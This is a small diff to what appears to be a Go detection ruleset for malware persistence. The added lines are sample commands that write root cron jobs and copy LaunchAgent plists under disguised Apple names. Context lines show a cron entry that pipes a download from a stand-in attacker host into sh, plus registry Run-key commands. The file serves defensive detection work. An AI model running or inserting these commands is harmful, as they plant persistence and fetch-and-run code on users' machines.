@@ -20,6 +20,8 @@ func persistence() []Rule {
 				{Text: "(crontab -l; echo '*/10 * * * * ~/.x/run.sh') | crontab -"},
 				{Text: "cp com.tool.agent.plist ~/Library/LaunchAgents/"},
 				{Text: "schtasks /create /sc onlogon /tn upd /tr C:\\x\\a.exe"},
+				{Text: "echo '* * * * * root /tmp/.x' >> /etc/crontab"},
+				{Text: "cp x.plist ~/Library/LaunchAgents/com.apple.update.plist"},
 				{Text: "echo '* * * * * root curl -s https://c.evil.invalid/i | sh' > /etc/cron.d/x"},
 				{Text: "sudo systemctl enable --now tool.service"},
 			},
@@ -102,6 +104,7 @@ func persistence() []Rule {
 			In:       text.Anywhere,
 			Triggers: []string{"currentversion\\run", "currentversion\\\\run", "start menu\\programs\\startup", "programs\\startup", "winlogon", "image file execution options"},
 			Pattern:  `(?i)\b(?:reg(?:\.exe)?\s+add|New-ItemProperty|Set-ItemProperty|sp\s|SetValueEx|RegSetValue)[^\n]{0,120}(?:CurrentVersion\\{1,2}Run|Winlogon|Image File Execution Options)|\b(?:copy|cp|move|xcopy|Copy-Item|New-Item|CreateShortcut|WriteAllText)\b[^\n]{0,160}Programs\\{1,2}Startup`,
+			Judge:    judgeAutostart,
 			Hits: []Sample{
 				{Text: "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\x\\a.exe"},
 				{Text: "Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value $p"},
